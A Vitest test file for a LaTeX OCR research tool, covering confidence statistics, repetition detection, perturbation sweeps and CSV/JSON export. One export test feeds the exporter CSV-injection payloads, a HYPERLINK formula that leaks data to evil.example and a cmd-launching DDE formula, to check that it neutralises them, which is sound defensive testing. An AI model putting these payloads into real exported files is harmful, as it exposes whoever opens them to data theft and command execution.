import { describe, expect, it } from 'vitest';
import { confidenceStats, detectRepetition, percent, predictionHealth, probabilityColour } from '../../src/research/confidence.ts';
import { CSV_HEADER, csvField, csvLine, exportFileName, formatNumber, parseCsv, sweepCsv, sweepJson } from '../../src/research/export.ts';
import { chartSeries, planSweep, runSweep, scoreRow, type SweepDeps, type SweepModel, type SweepRow, type SweepSpec } from '../../src/research/sweep.ts';
import { sweepVariable, sweepValues, WHITE_ON_BLUE } from '../../src/perturb/variables.ts';
import { createRaster } from '../../src/image/raster.ts';
import { DEFAULT_PERTURB } from '../../src/perturb/types.ts';
import { presets, runPresetTest } from '../../src/research/presets.ts';

const tok = (prob: number, text = 'x') => ({ text, prob, alternatives: [] });

describe('confidence stats', () => {
  it('mean, min (with its index) and geometric mean', () => {
    const s = confidenceStats([tok(0.9), tok(0.5), tok(1)])!;
    expect(s.mean).toBeCloseTo(0.8, 10);
    expect(s.min).toBe(0.5);
    expect(s.minIndex).toBe(1);
    expect(s.geometric).toBeCloseTo(Math.cbrt(0.45), 10);
    expect(s.count).toBe(3);
  });
  it('null for an empty prediction; zero probabilities keep the stats finite', () => {
    expect(confidenceStats([])).toBeNull();
    const s = confidenceStats([tok(0), tok(1)])!;
    expect(s.min).toBe(0);
    expect(s.mean).toBe(0.5);
    expect(Number.isFinite(s.geometric)).toBe(true);
    expect(s.geometric).toBeLessThan(1e-5);
  });
  it('clamps out-of-range and non-finite probabilities', () => {
    const s = confidenceStats([tok(1.2), tok(NaN)])!;
    expect(s.mean).toBe(0.5);
    expect(s.min).toBe(0);
  });
  it('colours go from red to green and percentages read well', () => {
    expect(probabilityColour(0)).toBe('hsl(0 75% 85%)');
    expect(probabilityColour(1)).toBe('hsl(120 75% 85%)');
    expect(probabilityColour(0.5)).toBe('hsl(60 75% 85%)');
    expect(percent(0.93)).toBe('93%');
    expect(percent(0.935)).toBe('93.5%');
    expect(percent(0.9996)).toBe('100%');
    expect(percent(0.001)).toBe('0%');
  });
});

describe('repetition detection', () => {
  const t = (s: string) => s.split(' ');
  it('finds a single token repeated at the end', () => {
    expect(detectRepetition(t('a + x x x x x x'))).toEqual({ gram: ['x'], repeats: 6, start: 2 });
  });
  it('finds an n-gram repeated four times at the end', () => {
    const r = detectRepetition(t('y = + 1 + 1 + 1 + 1'));
    expect(r).toEqual({ gram: ['+', '1'], repeats: 4, start: 2 });
  });
  it('reports the shortest period, counted as far back as it goes', () => {
    const r = detectRepetition(t('\\frac { a } { b } { b } { b } { b } { b }'));
    expect(r?.gram).toEqual(['{', 'b', '}']);
    expect(r?.repeats).toBe(5);
  });
  it('does not flag three repeats, a repetition that is not at the end, or short closing runs', () => {
    expect(detectRepetition(t('+ 1 + 1 + 1'))).toBeNull();
    expect(detectRepetition(t('x x x x x x x = y'))).toBeNull();
    expect(detectRepetition(t('x ^ { y ^ { z ^ { w } } } }'))).toBeNull();
    expect(detectRepetition([])).toBeNull();
  });
  it('options change the thresholds', () => {
    expect(detectRepetition(t('a b a b a b'), { minRepeats: 3 })).toEqual({ gram: ['a', 'b'], repeats: 3, start: 0 });
    expect(detectRepetition(t('} } } }'), { minSpan: 4 })?.repeats).toBe(4);
  });
  it('predictionHealth warns about loops and truncation, on canonical LaTeX tokens', () => {
    const ok = predictionHealth({ latex: 'a^2+b^2=c^2', tokens: [tok(0.9)], truncated: false });
    expect(ok.warnings).toEqual([]);
    expect(ok.repetition).toBeNull();
    const loop = predictionHealth({ latex: 'x = 1 1 1 1 1 1 1', tokens: [tok(0.9)], truncated: true });
    expect(loop.repetition?.gram).toEqual(['1']);
    expect(loop.warnings).toHaveLength(2);
    expect(loop.warnings[0]).toMatch(/repetition loop/);
    expect(loop.warnings[1]).toMatch(/length limit/);
  });
});

describe('sweep values and plan', () => {
  it('n steps from..to inclusive, descending ranges too', () => {
    expect(sweepValues(0, 1, 5)).toEqual([0, 0.25, 0.5, 0.75, 1]);
    expect(sweepValues(100, 5, 2)).toEqual([100, 5]);
    expect(sweepValues(3, 9, 1)).toEqual([3]);
    expect(() => sweepValues(0, 1, 0)).toThrow(RangeError);
    expect(() => sweepValues(0, 1, 2.5)).toThrow(RangeError);
  });
  it('colour steps go from black on white to white on blue', () => {
    const plan = planSweep(sweepVariable('colour'), 0, 1, 3);
    expect(plan.map((s) => s.index)).toEqual([0, 1, 2]);
    expect(plan[0].settings).toMatchObject({ ink: '#000000', paper: '#ffffff' });
    expect(plan[2].settings).toMatchObject(WHITE_ON_BLUE);
    // one variable at a time: everything else stays at its default
    expect({ ...plan[2].settings, ink: DEFAULT_PERTURB.ink, paper: DEFAULT_PERTURB.paper }).toEqual(DEFAULT_PERTURB);
  });
  it('drawing-only variables carry a stroke width and no pixel change', () => {
    const plan = planSweep(sweepVariable('strokeWidth'), 2, 10, 3);
    expect(plan.map((s) => s.strokeWidth)).toEqual([2, 6, 10]);
    // a link or a typed range beyond the stroke limits is clamped to them (1-24 px)
    expect(planSweep(sweepVariable('strokeWidth'), 0, 500, 2).map((s) => s.strokeWidth)).toEqual([1, 24]);
    expect(plan[1].settings).toEqual(DEFAULT_PERTURB);
    expect(planSweep(sweepVariable('invert'), 0, 1, 2)[1]).toMatchObject({ value: 1, settings: { invert: 1 } });
    expect(planSweep(sweepVariable('invert'), 0, 1, 2)[1].strokeWidth).toBeUndefined();
  });
  it('rejects non-numeric ranges', () => {
    expect(() => planSweep(sweepVariable('invert'), NaN, 1, 3)).toThrow(RangeError);
  });
});

describe('runSweep', () => {
  const models: SweepModel[] = [
    { key: 'builtin:augmented', label: 'Augmented' },
    { key: 'builtin:narrow', label: 'Narrow' },
  ];
  const spec = (over: Partial<SweepSpec> = {}): SweepSpec => ({ variable: sweepVariable('invert'), from: 0, to: 1, steps: 3, models, reference: '', ...over });
  /** A fake model: narrow breaks as soon as the image is inverted at all. */
  const deps = (log: string[] = []): SweepDeps => ({
    image: async (step) => {
      log.push(`image ${step.index}`);
      const r = createRaster(2, 1, [0, 0, 0, 255]);
      r.data[0] = Math.round(step.settings.invert * 255);
      return r;
    },
    load: async (m) => void log.push(`load ${m.key}`),
    recognize: async (m, image) => {
      log.push(`recognize ${m.key} ${image.data[0]}`);
      const latex = m.key === 'builtin:narrow' && image.data[0] > 0 ? 'x x' : 'a ^ { 2 }';
      return { latex, tokens: [tok(0.5), tok(1)], ms: 12.34, truncated: false, device: 'wasm', dtype: 'q8' };
    },
  });

  it('each model on each step, each image made once, scored against step 0 without a reference', async () => {
    const log: string[] = [];
    const rows: SweepRow[] = [];
    const progress: number[] = [];
    const r = await runSweep(spec(), deps(log), new AbortController().signal, { onRow: (row) => rows.push(row), onProgress: (p) => progress.push(p.done) });
    expect(r.complete).toBe(true);
    expect(r.rows).toHaveLength(6);
    expect(rows).toEqual(r.rows);
    expect(log.filter((l) => l.startsWith('image'))).toEqual(['image 0', 'image 1', 'image 2']);
    expect(log[0]).toBe('load builtin:augmented');
    expect(log.indexOf('load builtin:narrow')).toBeGreaterThan(log.indexOf('recognize builtin:augmented 255'));
    expect(r.rows.map((x) => x.score)).toEqual([1, 1, 1, 1, 0, 0]);
    expect(r.rows[4]).toMatchObject({ model: 'builtin:narrow', step: 1, value: 0.5, basis: 'step0', basisLatex: 'a ^ { 2 }', latex: 'x x', ned: 1 });
    expect(r.rows[0]).toMatchObject({ meanConfidence: 0.75, minConfidence: 0.5, ms: 12.34, device: 'wasm', dtype: 'q8', repetition: false });
    expect(progress.at(-1)).toBe(6);
    expect(r.images.every(Boolean)).toBe(true);
  });

  it('scores against the reference when there is one', async () => {
    const r = await runSweep(spec({ reference: 'a^{2}', models: [models[1]] }), deps(), new AbortController().signal);
    expect(r.rows.map((x) => [x.basis, x.ned])).toEqual([
      ['reference', 0],
      ['reference', 1],
      ['reference', 1],
    ]);
  });

  it('a failed recognition is a row with an error; a failed load fails that model only', async () => {
    const d = deps();
    let n = 0;
    const r = await runSweep(
      spec(),
      {
        ...d,
        load: async (m) => {
          if (m.key === 'builtin:narrow') throw new Error('404 config.json');
        },
        recognize: async (m, img, s) => {
          if (++n === 2) throw new Error('worker crashed');
          return d.recognize(m, img, s);
        },
      },
      new AbortController().signal,
    );
    expect(r.complete).toBe(true);
    expect(r.rows[1]).toMatchObject({ error: 'worker crashed', ned: null, score: null, latex: '' });
    expect(r.rows[2].score).toBe(1);
    expect(r.rows.slice(3).every((x) => x.error?.includes('Could not load the model: 404 config.json'))).toBe(true);
  });

  it('cancelling stops at once and keeps the rows so far', async () => {
    const abort = new AbortController();
    const d = deps();
    let calls = 0;
    const r = await runSweep(
      spec({ steps: 10 }),
      {
        ...d,
        recognize: async (m, img, s) => {
          if (++calls === 3) abort.abort();
          return d.recognize(m, img, s);
        },
      },
      abort.signal,
    );
    expect(r.complete).toBe(false);
    expect(calls).toBe(3);
    expect(r.rows).toHaveLength(2);
  });

  it('chartSeries lines the scores up with the values (null where missing)', async () => {
    const abort = new AbortController();
    const d = deps();
    const r = await runSweep(spec(), { ...d, recognize: async (m, img, s) => (m.key === 'builtin:narrow' ? (abort.abort(), d.recognize(m, img, s)) : d.recognize(m, img, s)) }, abort.signal);
    const c = chartSeries(r);
    expect(c.x).toEqual([0, 0.5, 1]);
    expect(c.series.map((s) => s.scores)).toEqual([
      [1, 1, 1],
      [null, null, null],
    ]);
  });

  it('scoreRow is 1 − normalised edit distance over canonical tokens', () => {
    expect(scoreRow('a^2', 'a ^ { 2 }')).toEqual({ ned: 0, score: 1 });
    expect(scoreRow('a^3', 'a^2').ned).toBeCloseTo(0.2, 10); // a ^ { 3 } vs a ^ { 2 }: 1 of 5 tokens
  });
});

describe('CSV and JSON export', () => {
  it('quotes fields with commas, quotes, line breaks and edge spaces', () => {
    expect(csvField('a+b')).toBe('a+b');
    expect(csvField('f(x, y)')).toBe('"f(x, y)"');
    expect(csvField("f'' = \"g\"")).toBe('"f\'\' = ""g"""');
    expect(csvField('a\nb')).toBe('"a\nb"');
    expect(csvField(' x')).toBe('" x"');
    expect(csvField('')).toBe('');
    expect(csvField(null)).toBe('');
    expect(csvField(0.1 + 0.2)).toBe('0.3');
    expect(csvLine(['\\frac{a}{b}', 1, '"q"'])).toBe('\\frac{a}{b},1,"""q"""');
  });
  it('guards text a spreadsheet would run as a formula with a leading quote; numbers stay numbers', () => {
    // OWASP CSV injection: cells starting with =, +, -, @, tab or carriage return
    expect(csvField('=HYPERLINK("http://evil.example/?"&A1,"x")')).toBe('"\'=HYPERLINK(""http://evil.example/?""&A1,""x"")"');
    expect(csvField('+1+cmd|\' /C calc\'!A0')).toBe("'+1+cmd|' /C calc'!A0");
    expect(csvField('- \\frac { 1 } { 2 }')).toBe("'- \\frac { 1 } { 2 }");
    expect(csvField('@SUM(A1:A2)')).toBe("'@SUM(A1:A2)");
    expect(csvField('\t=1+1')).toBe("'\t=1+1");
    expect(csvField('\r=1+1')).toBe('"\'\r=1+1"');
    expect(csvField('-1+2')).toBe("'-1+2"); // arithmetic, not a number
    // plain numbers, as text or as numbers, are left alone
    for (const n of ['-0.5', '+3', '-1e-3', '-.5', '0']) expect(csvField(n)).toBe(n);
    expect(csvField(-0.5)).toBe('-0.5');
    expect(csvField(-1e-7)).toBe('-1e-7');
    // only the first character counts
    expect(csvField('a = b - c')).toBe('a = b - c');
    // and the guarded cell reads back as the quote plus the text
    const rows = [row({ latex: '=1+2' }), row({ latex: '-x', value: -0.5 })];
    const parsed = parseCsv(sweepCsv(rows));
    expect(parsed[1][3]).toBe("'=1+2");
    expect(parsed[2][1]).toBe('-0.5');
    expect(parsed[2][3]).toBe("'-x");
  });
  it('formatNumber drops float noise and non-finite values', () => {
    expect(formatNumber(0.30000000000000004)).toBe('0.3');
    expect(formatNumber(100)).toBe('100');
    expect(formatNumber(1 / 3)).toBe('0.333333');
    expect(formatNumber(NaN)).toBe('');
  });

  const row = (over: Partial<SweepRow>): SweepRow => ({
    step: 0,
    value: 0,
    model: 'builtin:narrow',
    modelLabel: 'Narrow',
    latex: 'a',
    ned: 0,
    score: 1,
    basis: 'step0',
    basisLatex: 'a',
    meanConfidence: 0.87654,
    minConfidence: 0.5,
    tokens: [tok(0.87654, 'a')],
    ms: 12.345,
    truncated: false,
    repetition: false,
    ...over,
  });

  it('sweepCsv has the stress CLI header and reads back exactly', () => {
    const latexes = ['f(x, y) = "z"', "g'' , h", '\\frac { 1 } { 2 }', 'a\nb', ''];
    const rows = latexes.map((latex, i) => row({ step: i, value: i * 0.25, latex, ned: i / 3 }));
    rows.push(row({ step: 5, value: 1.25, latex: '', ned: null, score: null, meanConfidence: null, error: 'crashed' }));
    const csv = sweepCsv(rows);
    expect(csv.split('\n')[0]).toBe('step,value,model,latex,edit_distance,mean_confidence,ms');
    expect(CSV_HEADER.join(',')).toBe('step,value,model,latex,edit_distance,mean_confidence,ms');
    expect(csv.endsWith('\n')).toBe(true);
    const parsed = parseCsv(csv);
    expect(parsed).toHaveLength(7);
    expect(parsed.every((r) => r.length === 7)).toBe(true);
    expect(parsed.slice(1).map((r) => r[3])).toEqual([...latexes, '']);
    expect(parsed[2]).toEqual(['1', '0.25', 'builtin:narrow', "g'' , h", '0.3333', '0.8765', '12.3']);
    expect(parsed[6]).toEqual(['5', '1.25', 'builtin:narrow', '', '', '', '']);
  });

  it('parseCsv handles CRLF and quoted commas', () => {
    expect(parseCsv('a,"b,c"\r\n"d""e",f')).toEqual([
      ['a', 'b,c'],
      ['d"e', 'f'],
    ]);
  });

  it('sweepJson carries the settings, the plan and each row with token probabilities', async () => {
    const r = await runSweep(
      { variable: sweepVariable('colour'), from: 0, to: 1, steps: 2, models: [{ key: 'm', label: 'M' }], reference: 'a' },
      { image: async () => createRaster(1, 1), recognize: async () => ({ latex: 'a, "b"', tokens: [tok(0.25, 'a')], ms: 3, truncated: true }) },
      new AbortController().signal,
    );
    const doc = JSON.parse(sweepJson(r, { image: { name: 'x.png', width: 1, height: 1 }, createdAt: '2024-01-01T00:00:00.000Z' }));
    expect(doc).toMatchObject({
      kind: 'latex-ocr-sweep',
      version: 1,
      createdAt: '2024-01-01T00:00:00.000Z',
      image: { name: 'x.png', width: 1, height: 1 },
      variable: { id: 'colour' },
      from: 0,
      to: 1,
      steps: 2,
      reference: 'a',
      basis: 'reference',
      complete: true,
    });
    expect(doc.plan[1].settings).toMatchObject(WHITE_ON_BLUE);
    expect(doc.rows).toHaveLength(2);
    expect(doc.rows[0]).toMatchObject({ latex: 'a, "b"', truncated: true, meanConfidence: 0.25, tokens: [{ text: 'a', prob: 0.25 }] });
  });

  it('export file names are safe and dated', () => {
    expect(exportFileName('colour', 'csv', new Date('2024-05-06T07:08:09.123Z'))).toBe('latex-ocr-sweep-colour-2024-05-06T07-08-09Z.csv');
    expect(exportFileName('../x', 'json', new Date(0))).toMatch(/^latex-ocr-sweep-x-1970/);
  });
});

describe('three-step test presets', () => {
  it('(a) printed black on white, (b) the same image white on blue, (c) handwritten; each with a reference and an explanation', () => {
    const [a, b, c] = presets();
    expect([a.id, b.id, c.id]).toEqual(['a', 'b', 'c']);
    expect(a.example.kind).toBe('printed');
    expect(b.example.id).toBe(a.example.id);
    expect(c.example.kind).toBe('handwritten');
    expect(a.perturb).toEqual(DEFAULT_PERTURB);
    expect(b.perturb).toEqual({ ...DEFAULT_PERTURB, ...WHITE_ON_BLUE });
    expect(c.perturb).toEqual(DEFAULT_PERTURB);
    for (const p of [a, b, c]) {
      expect(p.reference).toBe(p.example.latex);
      expect(p.reference.length).toBeGreaterThan(0);
      expect(p.explanation.length).toBeGreaterThan(20);
      expect(p.explanation).not.toContain('\n');
    }
  });

  it('runPresetTest scores every model on every preset against its own reference', async () => {
    const list = presets();
    const seen: string[] = [];
    const cells = await runPresetTest(
      list,
      [
        { key: 'narrow', label: 'N' },
        { key: 'augmented', label: 'A' },
      ],
      {
        image: async (p) => {
          seen.push(p.id);
          if (p.id === 'c') throw new Error('offline');
          return createRaster(1, 1, [p.perturb.paper === '#ffffff' ? 255 : 0, 0, 0, 255]);
        },
        recognize: async (m, img) => ({ latex: m.key === 'narrow' && img.data[0] === 0 ? '' : list[0].reference, tokens: [tok(0.8)], truncated: false }),
      },
      new AbortController().signal,
    );
    expect(seen).toEqual(['a', 'b', 'c']);
    expect(cells.map((c) => [c.preset, c.model, c.ned])).toEqual([
      ['a', 'narrow', 0],
      ['a', 'augmented', 0],
      ['b', 'narrow', 1],
      ['b', 'augmented', 0],
      ['c', 'narrow', null],
      ['c', 'augmented', null],
    ]);
    expect(cells[4].error).toBe('offline');
    expect(cells[0].meanConfidence).toBe(0.8);
  });

  it('runPresetTest stops when cancelled', async () => {
    const abort = new AbortController();
    const cells = await runPresetTest(presets(), [{ key: 'm', label: 'M' }], { image: async () => createRaster(1, 1), recognize: async () => (abort.abort(), { latex: 'a', tokens: [], truncated: false }) }, abort.signal);
    expect(cells).toHaveLength(0);
  });
});
